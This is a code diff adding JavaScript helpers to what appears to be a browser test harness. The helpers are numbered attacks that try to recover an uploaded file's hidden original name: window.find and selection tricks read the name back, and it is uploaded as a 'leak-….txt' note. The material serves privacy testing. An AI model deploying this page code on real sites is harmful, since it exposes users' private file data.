@@ -470,3 +470,18 @@ export const browsersOwnPick = (onChange, { before = '', setup = '' } = {}) => {
         ${status}
       });`;
 };
+
+/**
+ * Page code for the attacks on the original's NAME (48-58): `leak(s, why)` uploads what was learnt as a text note
+ * "leak-….txt" (once a page), which leakAttacks (browser.mjs) reads back.
+ */
+export const leakNote = "const leak = (s, why) => { note(why + ' leak: ' + s); if (!window.leakedOnce) { window.leakedOnce = 1; send([new File(['leaked: ' + s], 'leak-' + String(s).replace(/[^A-Za-z0-9._-]/g, '_') + '.txt', { type: 'text/plain' })], why); } };";
+
+/**
+ * Attack 48's findsel on whatever is connected now: window.find('.jpg'), the selection stretched over its line, read
+ * back, and leaked if it names a .jpg (needs leakNote). `fresh`: the selection emptied first.
+ */
+export const findSelection = (why, { fresh = false } = {}) => `${fresh ? 'getSelection().removeAllRanges(); ' : ''}const hit = window.find('.jpg'); const sel = getSelection(); note('find .jpg ' + hit);
+        try { sel.modify('move', 'backward', 'lineboundary'); sel.modify('extend', 'forward', 'lineboundary'); } catch (e) { note('modify threw ' + e.name); }
+        const got = String(sel); note('${why} ' + JSON.stringify(got));
+        if (/jpg/i.test(got)) leak(got, '${why}');`;
